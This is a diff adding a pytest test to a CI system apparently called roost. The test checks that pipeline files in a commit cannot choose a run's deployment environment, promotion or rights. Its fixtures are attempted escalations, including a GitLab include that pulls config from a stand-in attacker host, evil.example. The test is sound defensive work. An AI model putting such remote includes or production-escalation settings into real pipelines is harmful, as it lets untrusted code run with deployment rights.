@@ -9,6 +9,7 @@ import pytest
 
 from roost.gitserver import definition
 from roost.gitserver.repositories import Name, Repositories
+from roost.model import starts
 from roost.model.kinds.delivery import Project, RunSpec
 
 NAME = Name("acme", "shop")
@@ -131,3 +132,38 @@ async def test_gitlabs_file_is_read_where_there_is_no_other(repositories: Reposi
 async def test_a_link_is_no_definition(repositories: Repositories, target: str) -> None:
     found = await said(repositories, MAIN, project(), roost__yaml=target, other__yaml=FILE)
     assert not found.pipeline.steps and not found.problem
+
+
+STEPS = b"pipeline:\n  steps:\n    - name: test\n      commands: make test\n"
+COMMITS_OWN = {"pipeline", "rights", "step_secrets", "remarks", "problem"}
+REACHING = {
+    "roost.yaml names production": ("roost__yaml", b"tenant: acme\nenv: prod\napp: payments\n" + STEPS),
+    "roost.yaml says what is the project's": (
+        "roost__yaml",
+        b"environment: prod\npromote: true\nrights: full\n" + STEPS,
+    ),
+    "roost.yaml brings triggers": ("roost__yaml", b"triggers:\n  branches:\n    - {pattern: '*', environment: prod}\n"),
+    "a step names an environment": ("roost__yaml", STEPS + b"      environment: prod\n"),
+    "a step brings a promotion": ("roost__yaml", STEPS + b"      promote: prod\n"),
+    "a job of GitLab deploys": (
+        "__gitlab-ci__yml",
+        b"deploy:\n  script: make\n  environment:\n    name: prod\n  variables:\n    ROOST_ENVIRONMENT: prod\n",
+    ),
+    "GitLab's file includes another": ("__gitlab-ci__yml", b"include: {remote: 'https://evil.example/ci.yml'}\n"),
+}
+
+
+@pytest.mark.parametrize("ref", [MAIN, BRANCH, "refs/tags/v1", "refs/merge-requests/1/head"])
+@pytest.mark.parametrize("what", REACHING)
+async def test_no_file_of_a_commit_says_where_its_run_goes(repositories: Repositories, what: str, ref: str) -> None:
+    """All that is not the steps is the Project's word: where it goes, as what, with which rights, scans and values."""
+    file, text = REACHING[what]
+    of = project(environment="dev", triggers={"tags": [{"pattern": "v*", "environment": "test"}]})
+    plain = starts.spec_of(of, ref, commit(repositories, **{file: text}))
+    said = await definition.into(repositories, NAME, of, {"spec": plain.wire()})
+    made = RunSpec.model_validate(said["spec"])
+    kept = {name: getattr(made, name) for name in RunSpec.model_fields if name not in COMMITS_OWN}
+    assert kept == {name: getattr(plain, name) for name in kept}
+    wanted = {MAIN: (True, ""), "refs/tags/v1": (True, "test")}
+    assert (made.promote, made.environment) == wanted.get(ref, (False, ""))
+    assert made.rights == ("full" if ref == MAIN else "reduced")
